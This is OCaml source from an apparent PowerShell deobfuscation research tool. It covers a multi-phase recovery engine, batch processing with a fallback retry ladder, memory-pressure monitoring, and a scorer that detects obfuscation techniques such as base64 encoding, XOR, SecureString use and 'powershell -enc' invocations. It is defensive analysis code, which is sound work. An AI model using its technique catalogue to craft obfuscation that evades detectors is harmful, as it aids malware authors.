                            (fun v -> not (Tracer.is_automatic v))
                            (Tracer.variables_read a)
                      | _ -> false)
                    cmd.A.cmd_elements
                in
                if risky_arg then found := true)
          | _ -> ())
        ast;
      !found

let rec deobfuscate_at ~opts ~stats ~depth src =
  (* Phase 1: token parsing *)
  let src1 = if opts.token_phase then Token_phase.run src else src in
  (* Phase 2: recovery based on AST, iterated to a fixpoint *)
  let deobfuscate ~depth payload =
    (* recursive entry used by multi-layer unwrapping *)
    deobfuscate_at ~opts ~stats ~depth payload
  in
  let rec fixpoint i current =
    if i >= opts.max_iterations then (current, i)
    else
      let next =
        Recover.run_pass ~opts:opts.recovery ~stats ~deobfuscate ~depth current
      in
      let next = if opts.token_phase then Token_phase.run next else next in
      let next = Simplify.run next in
      if String.equal next current then (current, i + 1) else fixpoint (i + 1) next
  in
  let recovered, _ = fixpoint 0 src1 in
  recovered

(** Deobfuscate a script.  Never raises: scripts that fail to lex or parse
    are returned unchanged with [changed = false]. *)
let run ?(options = default_options) src =
  let stats = Recover.new_stats () in
  if not (Psparse.Parser.is_valid_syntax src) then
    { output = src; stats; iterations = 0; changed = false }
  else begin
    let recovered = deobfuscate_at ~opts:options ~stats ~depth:0 src in
    (* Phase 3: rename and reformat.  Renaming is skipped when an encoded
       payload survived recovery — its hidden code may define or reference
       variables by their original names at run time, and renaming the
       visible script would desynchronise the two. *)
    let residual_encoded =
      (* a) a powershell -e/-enc/-command invocation still present *)
      (Pscommon.Strcase.contains ~needle:"-e" recovered
      &&
      match Pslex.Lexer.tokenize recovered with
      | Error _ -> true
      | Ok toks ->
          List.exists
            (fun t ->
              t.Pslex.Token.kind = Pslex.Token.Command_parameter
              && String.length t.Pslex.Token.content > 1
              && Char.lowercase_ascii t.Pslex.Token.content.[1] = 'e')
            toks)
      (* b) an Invoke-Expression whose argument is still dynamic *)
      || residual_dynamic_iex recovered
    in
    let renamed =
      if options.rename && not residual_encoded then Rename.rename recovered
      else recovered
    in
    let formatted = if options.reformat then Rename.reformat renamed else renamed in
    let output =
      if Psparse.Parser.is_valid_syntax formatted then formatted else recovered
    in
    { output; stats; iterations = options.max_iterations;
      changed = not (String.equal output src) }
  end

(** Convenience: deobfuscate and report score reduction. *)
let run_with_scores ?options src =
  let before = Score.score src in
  let result = run ?options src in
  let after = Score.score result.output in
  (result, before, after)

type phase_output = { phase : string; text : string }

(** The staged view of the pipeline (paper Fig 7): the script after token
    parsing, after variable tracing and recovery, and after renaming and
    reformatting. *)
let run_phases ?(options = default_options) src =
  if not (Psparse.Parser.is_valid_syntax src) then
    [ { phase = "original"; text = src } ]
  else begin
    let stats = Recover.new_stats () in
    let after_tokens = if options.token_phase then Token_phase.run src else src in
    let recovered = deobfuscate_at ~opts:options ~stats ~depth:0 src in
    let final = (run ~options src).output in
    [
      { phase = "original"; text = src };
      { phase = "token parsing"; text = after_tokens };
      { phase = "variable tracing and recovery"; text = recovered };
      { phase = "renaming and reformatting"; text = final };
    ]
  end
