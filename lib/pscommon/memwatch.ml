(** Memory-pressure governor: Gc-alarm-driven heap watermarks feeding
    admission control.  See the interface for the contract. *)

type level = Ok | Soft | Hard

let level_name = function Ok -> "ok" | Soft -> "soft" | Hard -> "hard"
let level_rank = function Ok -> 0 | Soft -> 1 | Hard -> 2

(* watermarks in bytes; max_int means "never" (the disabled default) *)
let soft_bytes = Atomic.make max_int
let hard_bytes = Atomic.make max_int

(* test/bench hook: chaos for the governor — force a level regardless of
   the real heap, so pressure paths are exercisable deterministically.
   0 = no override, otherwise 1 + rank. *)
let override = Atomic.make 0

let set_override lv =
  Atomic.set override (match lv with None -> 0 | Some l -> 1 + level_rank l)

let m_heap = Telemetry.Metrics.gauge "mem.heap_bytes"
let m_level = Telemetry.Metrics.gauge "mem.level"
let m_alarms = Telemetry.Metrics.counter "mem.alarms"

let word_bytes = Sys.word_size / 8

let heap_bytes () =
  let s = Gc.quick_stat () in
  s.Gc.heap_words * word_bytes

let configure ?soft_mb ?hard_mb () =
  let to_bytes = function
    | None -> max_int
    | Some mb when mb <= 0 -> max_int
    | Some mb -> mb * 1024 * 1024
  in
  Atomic.set soft_bytes (to_bytes soft_mb);
  Atomic.set hard_bytes (to_bytes hard_mb)

let soft_watermark_bytes () =
  match Atomic.get soft_bytes with b when b = max_int -> None | b -> Some b

let hard_watermark_bytes () =
  match Atomic.get hard_bytes with b when b = max_int -> None | b -> Some b

let level_of_bytes bytes =
  if bytes >= Atomic.get hard_bytes then Hard
  else if bytes >= Atomic.get soft_bytes then Soft
  else Ok

let level () =
  let lv =
    match Atomic.get override with
    | 1 -> Ok
    | 2 -> Soft
    | 3 -> Hard
    | _ ->
        let bytes = heap_bytes () in
        Telemetry.Metrics.set m_heap bytes;
        level_of_bytes bytes
  in
  Telemetry.Metrics.set m_level (level_rank lv);
  lv

(* The Gc alarm runs at the end of each major cycle in the installing
   domain — exactly when [heap_words] is freshest — and refreshes the
   scrape gauges so pressure is observable even when nobody is calling
   {!level}.  Idempotent per process; the alarm itself must never raise
   (it runs inside the GC). *)
let alarm_installed = Atomic.make false

let install_alarm () =
  if Atomic.compare_and_set alarm_installed false true then
    ignore
      (Gc.create_alarm (fun () ->
           try
             Telemetry.Metrics.incr m_alarms;
             let bytes = heap_bytes () in
             Telemetry.Metrics.set m_heap bytes;
             Telemetry.Metrics.set m_level (level_rank (level_of_bytes bytes))
           with _ -> ()))

let to_json () =
  Printf.sprintf
    "{\"level\": \"%s\", \"heap_bytes\": %d, \"soft_bytes\": %s, \
     \"hard_bytes\": %s}"
    (level_name (level ()))
    (heap_bytes ())
    (match soft_watermark_bytes () with
    | None -> "null"
    | Some b -> string_of_int b)
    (match hard_watermark_bytes () with
    | None -> "null"
    | Some b -> string_of_int b)
