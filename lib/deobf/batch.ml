(** Crash-isolated batch processing over a directory of samples, in
    parallel across a fixed-size domain pool. *)

module Guard = Pscommon.Guard
module Pool = Pscommon.Pool
module T = Pscommon.Telemetry
module Chaos = Pscommon.Chaos

(* ---------- the degraded-mode retry ladder ---------- *)

type mode = Full | Static | Token_only | Passthrough

let mode_name = function
  | Full -> "full"
  | Static -> "static"
  | Token_only -> "token-only"
  | Passthrough -> "passthrough"

let weaker = function
  | Full -> Some Static
  | Static -> Some Token_only
  | Token_only -> Some Passthrough
  | Passthrough -> None

(* each rung strips the pipeline further: Static drops the dynamic recovery
   fixpoint (no piece execution), Token_only additionally drops renaming and
   reformatting, Passthrough does not run the engine at all *)
let mode_options base = function
  | Full | Passthrough -> base
  | Static -> { base with Engine.max_iterations = 0 }
  | Token_only ->
      { base with Engine.max_iterations = 0; rename = false; reformat = false }

type outcome = {
  file : string;
  output_file : string option;
  wall_ms : float;
  phase_ms : (string * float) list;
  iterations : int;
  changed : bool;
  failures : Engine.failure_site list;
  stats : Recover.stats;
  degraded_mode : mode;
  retries : int;
  regions_total : int;
  regions_recovered : int;
}

type summary = {
  total : int;
  clean : int;
  degraded : int;
  wall_ms : float;
  outcomes : outcome list;
}

(* ---------- JSON rendering (reuses Report's dependency-free helpers) ---------- *)

let failure_to_json (site : Engine.failure_site) =
  Printf.sprintf "{\"phase\": %s, \"kind\": %s, \"detail\": %s}"
    (Report.json_string site.Engine.phase)
    (Report.json_string (Guard.failure_label site.Engine.failure))
    (Report.json_string (Guard.failure_to_string site.Engine.failure))

let stats_to_json (s : Recover.stats) =
  Printf.sprintf
    "{\"pieces_recovered\": %d, \"variables_substituted\": %d, \
     \"layers_unwrapped\": %d, \"pieces_attempted\": %d, \
     \"pieces_blocked\": %d, \"cache_hits\": %d}"
    s.Recover.pieces_recovered s.Recover.variables_substituted
    s.Recover.layers_unwrapped s.Recover.pieces_attempted
    s.Recover.pieces_blocked s.Recover.cache_hits

let phase_ms_to_json phases =
  Printf.sprintf "{%s}"
    (String.concat ", "
       (List.map
          (fun (phase, ms) ->
            Printf.sprintf "%s: %.1f" (Report.json_string phase) ms)
          phases))

let outcome_to_json o =
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"file\": %s," (Report.json_string o.file);
      Printf.sprintf "  \"status\": %s,"
        (Report.json_string (if o.failures = [] then "ok" else "degraded"));
      Printf.sprintf "  \"wall_ms\": %.1f," o.wall_ms;
      Printf.sprintf "  \"phase_ms\": %s," (phase_ms_to_json o.phase_ms);
      Printf.sprintf "  \"iterations\": %d," o.iterations;
      Printf.sprintf "  \"changed\": %b," o.changed;
      Printf.sprintf "  \"degraded_mode\": %s,"
        (Report.json_string (mode_name o.degraded_mode));
      Printf.sprintf "  \"retries\": %d," o.retries;
      Printf.sprintf "  \"regions_total\": %d," o.regions_total;
      Printf.sprintf "  \"regions_recovered\": %d," o.regions_recovered;
      Printf.sprintf "  \"failures\": [%s],"
        (String.concat ", " (List.map failure_to_json o.failures));
      Printf.sprintf "  \"stats\": %s," (stats_to_json o.stats);
      Printf.sprintf "  \"output_file\": %s"
        (match o.output_file with
        | Some p -> Report.json_string p
        | None -> "null");
      "}";
    ]

let summary_to_json s =
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"total\": %d," s.total;
      Printf.sprintf "  \"clean\": %d," s.clean;
      Printf.sprintf "  \"degraded\": %d," s.degraded;
      Printf.sprintf "  \"wall_ms\": %.1f," s.wall_ms;
      Printf.sprintf "  \"outcomes\": [\n%s\n  ]"
        (String.concat ",\n" (List.map outcome_to_json s.outcomes));
      "}";
    ]

(* ---------- per-file isolation ---------- *)

let write_file path content =
  Chaos.probe "batch.write";
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

(* the Passthrough rung: the engine is not run at all, the input is the
   output — the ladder's unconditional floor *)
let passthrough_guarded src =
  { Engine.result =
      { Engine.output = src; stats = Recover.new_stats (); iterations = 0;
        changed = false };
    failures = []; timings = []; regions_total = 0; regions_recovered = 0 }

(* Walk the ladder: run an attempt, and when it degrades for any reason a
   weaker mode could dodge (anything but [Parse_failure] — no rung parses
   better than a stronger one, and partial recovery already made its best
   effort on the parse), retry one rung down with a fresh deadline.
   Failures accumulate across attempts so the report shows the whole
   descent; [Passthrough] cannot fail, so the walk terminates clean. *)
let run_ladder ?options ~timeout_s ?max_output_bytes src =
  let base = Option.value options ~default:Engine.default_options in
  let rec walk mode retries acc_failures =
    let guarded =
      match mode with
      | Passthrough -> passthrough_guarded src
      | m ->
          Engine.run_guarded ~options:(mode_options base m) ~timeout_s
            ?max_output_bytes src
    in
    let failures = acc_failures @ guarded.Engine.failures in
    let retryable =
      List.exists
        (fun (s : Engine.failure_site) ->
          s.Engine.failure <> Guard.Parse_failure)
        guarded.Engine.failures
    in
    match (retryable, weaker mode) with
    | true, Some next ->
        T.Metrics.incr (T.Metrics.counter "batch.ladder.retries");
        if T.active () then
          T.event "batch.retry"
            ~attrs:
              [ ("from", T.S (mode_name mode));
                ("to", T.S (mode_name next)) ];
        walk next (retries + 1) failures
    | _ -> (mode, retries, failures, guarded)
  in
  walk Full 0 []

let process_file_inner ?options ?(timeout_s = 30.0) ?max_output_bytes ?out_dir
    file =
  let started = Guard.now () in
  let finish ?output_file ?(phase_ms = []) ?(degraded_mode = Full)
      ?(retries = 0) ?(regions = (0, 0)) ~iterations ~changed ~stats failures =
    { file; output_file; wall_ms = (Guard.now () -. started) *. 1000.0;
      phase_ms; iterations; changed; failures; stats; degraded_mode; retries;
      regions_total = fst regions; regions_recovered = snd regions }
  in
  match
    Guard.protect (fun () ->
        Chaos.probe "batch.read";
        In_channel.with_open_bin file In_channel.input_all)
  with
  | Error failure ->
      finish ~iterations:0 ~changed:false ~stats:(Recover.new_stats ())
        [ { Engine.phase = "read"; failure } ]
  | Ok src -> (
      (* the guarded engine is total; the outer protect is the backstop for
         anything outside it (e.g. report writing) *)
      let mode, retries, ladder_failures, guarded =
        run_ladder ?options ~timeout_s ?max_output_bytes src
      in
      let result = guarded.Engine.result in
      let output_file, write_failure =
        match out_dir with
        | None -> (None, None)
        | Some dir -> (
            let path = Filename.concat dir (Filename.basename file) in
            match Guard.protect (fun () -> write_file path result.Engine.output) with
            | Ok () -> (Some path, None)
            | Error failure ->
                (* a failed write is a real degradation — surfaced as a
                   structured site, not a silent [None] *)
                (None, Some { Engine.phase = "write"; failure }))
      in
      let failures = ladder_failures @ Option.to_list write_failure in
      let outcome =
        finish ?output_file ~phase_ms:guarded.Engine.timings
          ~degraded_mode:mode ~retries
          ~regions:(guarded.Engine.regions_total, guarded.Engine.regions_recovered)
          ~iterations:result.Engine.iterations ~changed:result.Engine.changed
          ~stats:result.Engine.stats failures
      in
      (match (out_dir, failures) with
      | Some dir, _ :: _ ->
          let report_path =
            Filename.concat dir (Filename.basename file ^ ".failures.json")
          in
          ignore
            (Guard.protect (fun () ->
                 write_file report_path (outcome_to_json outcome ^ "\n")))
      | _ -> ());
      outcome)

let process_file ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir file
    =
  (* Scope the chaos stream to the file: injection becomes a pure function
     of (seed, basename, probe order), so a file draws the same faults no
     matter which pool domain ran it or in what order — outputs under
     injection stay byte-identical across --jobs levels.  Traced runs draw
     one extra probe (the trace write), but only after the output is
     already decided, so traced/untraced byte-identity holds too. *)
  Chaos.with_scope (Filename.basename file) @@ fun () ->
  let task () =
    (* the "pool.task" probe models a fault in the worker itself, outside
       every engine guard; the protect in [contained] below is what keeps
       it from crashing the pool *)
    Chaos.probe "pool.task";
    match trace_dir with
    | None ->
        process_file_inner ?options ?timeout_s ?max_output_bytes ?out_dir file
    | Some dir ->
        (* one event stream per input: the trace is created in (and private
           to) whichever pool domain runs this file, installed as that
           domain's ambient context for the duration, and serialized next to
           the other per-file reports.  Tracing is observation only, so the
           deobfuscated output is byte-identical to an untraced run. *)
        let trace = T.create () in
        let outcome =
          T.with_trace trace (fun () ->
              T.span ~attrs:[ ("file", T.S file) ] "batch.file" (fun () ->
                  process_file_inner ?options ?timeout_s ?max_output_bytes
                    ?out_dir file))
        in
        let path = Filename.concat dir (Filename.basename file ^ ".trace.jsonl") in
        ignore (Guard.protect (fun () -> write_file path (T.to_jsonl trace)));
        outcome
  in
  (* backstop: Pool.map re-raises worker exceptions at join, so anything
     escaping the per-file pipeline (an injected pool fault, a bug in
     report writing) must be converted here into a structured outcome
     rather than aborting the whole batch *)
  match Guard.protect task with
  | Ok outcome -> outcome
  | Error failure ->
      { file; output_file = None; wall_ms = 0.0; phase_ms = [];
        iterations = 0; changed = false;
        failures = [ { Engine.phase = "task"; failure } ];
        stats = Recover.new_stats (); degraded_mode = Full; retries = 0;
        regions_total = 0; regions_recovered = 0 }

(* mkdir -p semantics: creates missing ancestors, accepts an existing
   directory, and fails when any component exists as a non-directory. *)
let rec ensure_dir dir =
  if Sys.file_exists dir then begin
    if not (Sys.is_directory dir) then
      failwith (Printf.sprintf "not a directory: %s" dir)
  end
  else begin
    let parent = Filename.dirname dir in
    if parent <> dir && not (Sys.file_exists parent) then ensure_dir parent;
    try Sys.mkdir dir 0o755
    with Sys_error _ when Sys.is_directory dir ->
      (* lost a race to a sibling worker creating the same directory *)
      ()
  end

let run_files ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir
    ?(jobs = 1) files =
  let started = Guard.now () in
  (* the process-global metrics registry becomes a per-run rollup: zeroed
     here, aggregated across every pool domain, snapshotted by metrics_json *)
  T.Metrics.reset ();
  let ensure_failure = function
    | None -> None
    | Some dir -> (
        match Guard.protect (fun () -> ensure_dir dir) with
        | Ok () -> None
        | Error failure -> Some { Engine.phase = "write"; failure })
  in
  let dir_failure =
    match ensure_failure out_dir with
    | Some site -> Some site
    | None -> ensure_failure trace_dir
  in
  let outcomes =
    match dir_failure with
    | Some site ->
        (* the output directory is unusable: report every file as a
           structured write failure instead of crashing or silently
           dropping the outputs *)
        List.map
          (fun file ->
            { file; output_file = None; wall_ms = 0.0; phase_ms = [];
              iterations = 0; changed = false; failures = [ site ];
              stats = Recover.new_stats (); degraded_mode = Full; retries = 0;
              regions_total = 0; regions_recovered = 0 })
          files
    | None ->
        (* outcomes come back input-ordered regardless of which domain ran
           which file, so reports and outputs are deterministic *)
        Pool.map ~jobs
          (fun file ->
            process_file ?options ?timeout_s ?max_output_bytes ?out_dir
              ?trace_dir file)
          files
  in
  (* clean means clean at full strength: no contained failures and no trip
     down the retry ladder (retries > 0 implies failures <> [], since
     failures accumulate across attempts, but the predicate states the
     contract explicitly) *)
  let clean =
    List.length
      (List.filter (fun o -> o.failures = [] && o.retries = 0) outcomes)
  in
  {
    total = List.length outcomes;
    clean;
    degraded = List.length outcomes - clean;
    wall_ms = (Guard.now () -. started) *. 1000.0;
    outcomes;
  }

(* ---------- run-level metrics rollup ---------- *)

let sum_stats f outcomes =
  List.fold_left (fun acc o -> acc + f o.stats) 0 outcomes

(* counts of contained failures keyed "phase/kind", sorted *)
let failure_site_counts outcomes =
  let tbl = Hashtbl.create 16 in
  List.iter
    (fun o ->
      List.iter
        (fun (site : Engine.failure_site) ->
          let key =
            site.Engine.phase ^ "/" ^ Guard.failure_label site.Engine.failure
          in
          Hashtbl.replace tbl key (1 + Option.value ~default:0 (Hashtbl.find_opt tbl key)))
        o.failures)
    outcomes;
  Hashtbl.fold (fun k v acc -> (k, v) :: acc) tbl []
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

let phase_totals outcomes =
  List.fold_left
    (fun acc o ->
      List.fold_left
        (fun acc (phase, ms) ->
          let prev = Option.value ~default:0.0 (List.assoc_opt phase acc) in
          (phase, prev +. ms) :: List.remove_assoc phase acc)
        acc o.phase_ms)
    [] outcomes
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

(** The run-level observability rollup written as [metrics.json]: failure
    sites, cache hit-rate, per-phase wall totals, and the full metrics
    snapshot (counters, gauges, latency histograms) aggregated across every
    pool domain of the run. *)
let metrics_json s =
  let attempted = sum_stats (fun st -> st.Recover.pieces_attempted) s.outcomes in
  let hits = sum_stats (fun st -> st.Recover.cache_hits) s.outcomes in
  let hit_rate =
    if attempted = 0 then 0.0 else float_of_int hits /. float_of_int attempted
  in
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"total\": %d," s.total;
      Printf.sprintf "  \"clean\": %d," s.clean;
      Printf.sprintf "  \"degraded\": %d," s.degraded;
      Printf.sprintf "  \"wall_ms\": %.1f," s.wall_ms;
      Printf.sprintf "  \"failure_sites\": {%s},"
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s: %d" (Report.json_string k) n)
              (failure_site_counts s.outcomes)));
      Printf.sprintf
        "  \"cache\": {\"pieces_attempted\": %d, \"cache_hits\": %d, \
         \"hit_rate\": %.3f},"
        attempted hits hit_rate;
      Printf.sprintf "  \"phase_ms_total\": {%s},"
        (String.concat ", "
           (List.map
              (fun (p, ms) -> Printf.sprintf "%s: %.1f" (Report.json_string p) ms)
              (phase_totals s.outcomes)));
      (* how far down the ladder the run had to go, and how much text the
         partial-parse recovery salvaged *)
      Printf.sprintf "  \"degraded_modes\": {%s},"
        (String.concat ", "
           (List.map
              (fun m ->
                Printf.sprintf "%s: %d"
                  (Report.json_string (mode_name m))
                  (List.length
                     (List.filter (fun o -> o.degraded_mode = m) s.outcomes)))
              [ Full; Static; Token_only; Passthrough ]));
      Printf.sprintf "  \"retries_total\": %d,"
        (List.fold_left (fun acc o -> acc + o.retries) 0 s.outcomes);
      Printf.sprintf
        "  \"regions\": {\"total\": %d, \"recovered\": %d},"
        (List.fold_left (fun acc o -> acc + o.regions_total) 0 s.outcomes)
        (List.fold_left (fun acc o -> acc + o.regions_recovered) 0 s.outcomes);
      Printf.sprintf "  \"metrics\": %s"
        (T.Metrics.snapshot_to_json (T.Metrics.snapshot ()));
      "}";
    ]

let run_dir ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir ?jobs dir
    =
  let files =
    match Guard.protect (fun () -> Sys.readdir dir) with
    | Error _ -> []
    | Ok names ->
        Array.to_list names |> List.sort String.compare
        |> List.map (Filename.concat dir)
        |> List.filter (fun p ->
               match Guard.protect (fun () -> Sys.is_directory p) with
               | Ok is_dir -> not is_dir
               | Error _ -> false)
  in
  let summary =
    run_files ?options ?timeout_s ?max_output_bytes ?out_dir ?trace_dir ?jobs
      files
  in
  (match out_dir with
  | Some out ->
      ignore
        (Guard.protect (fun () ->
             write_file
               (Filename.concat out "batch_report.json")
               (summary_to_json summary ^ "\n")));
      ignore
        (Guard.protect (fun () ->
             write_file
               (Filename.concat out "metrics.json")
               (metrics_json summary ^ "\n")))
  | None -> ());
  summary
