lib/pslex/aliases.mli:
