(** Obfuscation identification and quantification (paper §IV-B2).

    Each known technique is detected with token- and AST-level features (the
    paper: "based on regular expression matching, tokens and AST"); a script
    scores its technique's level (L1 = 1, L2 = 2, L3 = 3), each technique
    counted once.  Used for Table I (wild proportions), Table V (mitigation)
    and the "most obfuscated sample" selection. *)

open Pscommon
module T = Pslex.Token
module A = Psast.Ast

type detection = {
  ticking : bool;
  whitespacing : bool;
  random_case : bool;
  random_name : bool;
  alias : bool;
  concat : bool;
  reorder : bool;
  replace : bool;
  reverse : bool;
  enc_radix : bool;  (** binary / octal / ascii / hex char-code decoding *)
  enc_base64 : bool;
  enc_whitespace : bool;
  enc_specialchar : bool;
  enc_bxor : bool;
  secure_string : bool;
  compress : bool;
}

let none =
  { ticking = false; whitespacing = false; random_case = false;
    random_name = false; alias = false; concat = false; reorder = false;
    replace = false; reverse = false; enc_radix = false; enc_base64 = false;
    enc_whitespace = false; enc_specialchar = false; enc_bxor = false;
    secure_string = false; compress = false }

(* known canonical case for case-anomaly detection *)
let expected_case word =
  match Pslex.Aliases.canonical_case word with
  | Some c -> Some c
  | None -> Pslex.Lexer.keyword_canonical word

let mixed_weird_case word =
  (* at least two lower→upper transitions inside one dash-part *)
  let transitions = ref 0 in
  let prev_lower = ref false in
  String.iter
    (fun c ->
      if c = '-' then prev_lower := false
      else begin
        if !prev_lower && c >= 'A' && c <= 'Z' then incr transitions;
        prev_lower := c >= 'a' && c <= 'z'
      end)
    word;
  !transitions >= 2

let detect_tokens toks =
  let ticking = ref false and random_case = ref false and alias = ref false in
  let specials = ref false in
  let var_names = ref [] in
  List.iter
    (fun t ->
      match t.T.kind with
      | T.Command ->
          if String.contains t.T.text '`' then ticking := true;
          if Pslex.Aliases.is_alias t.T.content then alias := true;
          (match expected_case t.T.content with
          | Some canonical ->
              if t.T.text <> canonical && Strcase.equal t.T.text canonical then
                random_case := true
          | None -> if mixed_weird_case t.T.text then random_case := true)
      | T.Keyword ->
          if t.T.text <> t.T.content && t.T.text <> String.capitalize_ascii t.T.content
          then random_case := true
      | T.Member | T.Type_name | T.Command_parameter ->
          if mixed_weird_case t.T.text then random_case := true
      | T.Variable ->
          if Rename.renameable_variable t.T.content then begin
            var_names := t.T.content :: !var_names;
            if
              String.length t.T.content > 0
              && not (String.exists Rename.is_letter t.T.content)
            then specials := true
          end
      | T.Operator ->
          if String.length t.T.content > 1 && t.T.content.[0] = '-'
             && mixed_weird_case t.T.text
          then random_case := true
      | _ -> ())
    toks;
  let random_name =
    !specials
    || (List.length (List.sort_uniq Strcase.compare !var_names) >= 2
       && Rename.names_look_random (List.sort_uniq Strcase.compare !var_names))
  in
  (!ticking, !random_case, !alias, random_name)

let whitespacing_of_tokens src toks =
  (* ≥3 consecutive spaces outside strings, or space before ';' *)
  let rec check prev_stop = function
    | [] -> false
    | t :: rest ->
        let gap_start = prev_stop and gap_stop = t.T.extent.Extent.start in
        let gap_len = gap_stop - gap_start in
        if
          gap_len >= 3
          && String.for_all
               (fun c -> c = ' ' || c = '\t')
               (String.sub src gap_start gap_len)
        then true
        else check t.T.extent.Extent.stop rest
  in
  check 0 toks

let is_string_node (n : A.t) =
  match n.A.node with
  | A.String_const (_, (A.Single_quoted | A.Double_quoted)) -> true
  | _ -> false

let rec concat_chain_of_strings (n : A.t) =
  match n.A.node with
  | A.Binary_expr (A.Add, _, a, b) ->
      (is_string_node a || concat_chain_of_strings a) && is_string_node b
  | _ -> false

let member_named name m =
  match m with
  | A.Member_name n -> Strcase.equal n name
  | A.Member_dynamic _ -> false

let detect_ast src =
  match Psparse.Parser.parse src with
  | Error _ -> none
  | Ok ast ->
      let d = ref none in
      let set f = d := f !d in
      A.iter_post_order
        (fun n ->
          match n.A.node with
          | A.Binary_expr (A.Add, _, _, _) ->
              if concat_chain_of_strings n then set (fun d -> { d with concat = true })
          | A.Binary_expr (A.Format, _, lhs, _) -> (
              match lhs.A.node with
              | A.String_const (s, _) | A.Expandable_string (s, _) ->
                  if Strcase.contains ~needle:"{0}" s || Strcase.contains ~needle:"{1}" s
                  then set (fun d -> { d with reorder = true })
              | _ -> ())
          | A.Binary_expr (A.Replace, _, _, _) ->
              set (fun d -> { d with replace = true })
          | A.Binary_expr (A.Bxor, _, _, _) ->
              set (fun d -> { d with enc_bxor = true })
          | A.Invoke_member (_, m, _, _) when member_named "replace" m ->
              set (fun d -> { d with replace = true })
          | A.Invoke_member (_, m, _, true) when member_named "frombase64string" m ->
              set (fun d -> { d with enc_base64 = true })
          | A.Invoke_member (_, m, args, true) when member_named "toint32" m ->
              if List.length args >= 2 then set (fun d -> { d with enc_radix = true })
          | A.Invoke_member (_, m, _, true)
            when member_named "securestringtobstr" m || member_named "ptrtostringauto" m ->
              set (fun d -> { d with secure_string = true })
          | A.Invoke_member (_, m, _, true) when member_named "reverse" m ->
              set (fun d -> { d with reverse = true })
          | A.Index_expr (obj, idx) -> (
              (* 'gnirts'[-1..-n] reversal *)
              match (obj.A.node, idx.A.node) with
              | (A.String_const _ | A.Variable_expr _),
                A.Binary_expr (A.Range, _, a, b) -> (
                  let negative e =
                    match e.A.node with
                    | A.Number_const (A.Int_lit n) -> n < 0
                    | A.Unary_expr (A.Negate, _) -> true
                    | _ -> false
                  in
                  if negative a && negative b then
                    set (fun d -> { d with reverse = true }))
              | _ -> ())
          | A.Convert_expr (t, inner) -> (
              let tn = Strcase.lower t in
              if tn = "char" then
                match inner.A.node with
                | A.Convert_expr (t2, _) when Strcase.equal t2 "int" ->
                    set (fun d -> { d with enc_radix = true })
                | A.Paren_expr _ | A.Variable_expr _ | A.Number_const _ ->
                    set (fun d -> { d with enc_radix = true })
                | _ -> ())
          | A.Command cmd -> (
              match A.command_name cmd with
              | Some name -> (
                  if Strcase.equal name "convertto-securestring"
                     || Strcase.equal name "convertfrom-securestring"
                  then set (fun d -> { d with secure_string = true });
                  (* powershell -enc *)
                  if
                    List.exists
                      (fun n -> Strcase.equal n name)
                      [ "powershell"; "powershell.exe"; "pwsh"; "pwsh.exe" ]
                  then
                    List.iter
                      (function
                        | A.Elem_parameter (p, _) ->
                            let p = Strcase.lower p in
                            if String.length p > 1 && p.[1] = 'e' then
                              set (fun d -> { d with enc_base64 = true })
                        | _ -> ())
                      cmd.A.cmd_elements)
              | None -> ())
          | A.Type_literal t ->
              let tn = Strcase.lower t in
              if Strcase.contains ~needle:"deflatestream" tn
                 || Strcase.contains ~needle:"gzipstream" tn
              then set (fun d -> { d with compress = true });
              if Strcase.contains ~needle:"marshal" tn then
                set (fun d -> { d with secure_string = true })
          | A.String_const (s, _) ->
              if String.length s >= 40 && Encoding.Base64.is_plausible s then
                set (fun d -> { d with enc_base64 = true });
              if String.length s >= 40 then begin
                let spaces = ref 0 in
                String.iter (fun c -> if c = ' ' then incr spaces) s;
                if float_of_int !spaces > 0.8 *. float_of_int (String.length s)
                then set (fun d -> { d with enc_whitespace = true })
              end
          | A.Variable_expr v ->
              if
                String.length v.A.var_name > 0
                && (not (Tracer.is_automatic v.A.var_name))
                && not (String.exists Rename.is_letter v.A.var_name)
                && not (String.exists (fun c -> c >= '0' && c <= '9') v.A.var_name)
                && not (List.mem v.A.var_name [ "_"; "$"; "?"; "^" ])
              then set (fun d -> { d with enc_specialchar = true })
          | _ -> ())
        ast;
      !d

let detect src =
  (* one tokenize feeds both the token-feature pass and the whitespacing
     check; the AST pass parses separately *)
  let (ticking, random_case, alias, random_name), whitespacing =
    match Pslex.Lexer.tokenize src with
    | Error _ -> ((false, false, false, false), false)
    | Ok toks -> (detect_tokens toks, whitespacing_of_tokens src toks)
  in
  let d = detect_ast src in
  { d with ticking; random_case; alias; random_name; whitespacing }

(** Levels present in a script. *)
let levels d =
  let l1 = d.ticking || d.whitespacing || d.random_case || d.random_name || d.alias in
  let l2 = d.concat || d.reorder || d.replace || d.reverse in
  let l3 =
    d.enc_radix || d.enc_base64 || d.enc_whitespace || d.enc_specialchar
    || d.enc_bxor || d.secure_string || d.compress
  in
  (l1, l2, l3)

(** Obfuscation score: each detected technique counts its level once. *)
let score_of_detection d =
  let score = ref 0 in
  let add level present = if present then score := !score + level in
  add 1 d.ticking;
  add 1 d.whitespacing;
  add 1 d.random_case;
  add 1 d.random_name;
  add 1 d.alias;
  add 2 d.concat;
  add 2 d.reorder;
  add 2 d.replace;
  add 2 d.reverse;
  add 3 d.enc_radix;
  add 3 d.enc_base64;
  add 3 d.enc_whitespace;
  add 3 d.enc_specialchar;
  add 3 d.enc_bxor;
  add 3 d.secure_string;
  add 3 d.compress;
  !score

let score src = score_of_detection (detect src)

let technique_names d =
  List.filter_map
    (fun (present, name) -> if present then Some name else None)
    [
      (d.ticking, "ticking"); (d.whitespacing, "whitespacing");
      (d.random_case, "random-case"); (d.random_name, "random-name");
      (d.alias, "alias"); (d.concat, "concatenate"); (d.reorder, "reorder");
      (d.replace, "replace"); (d.reverse, "reverse");
      (d.enc_radix, "encode-radix"); (d.enc_base64, "encode-base64");
      (d.enc_whitespace, "encode-whitespace");
      (d.enc_specialchar, "encode-specialchar"); (d.enc_bxor, "encode-bxor");
      (d.secure_string, "securestring"); (d.compress, "compress");
    ]
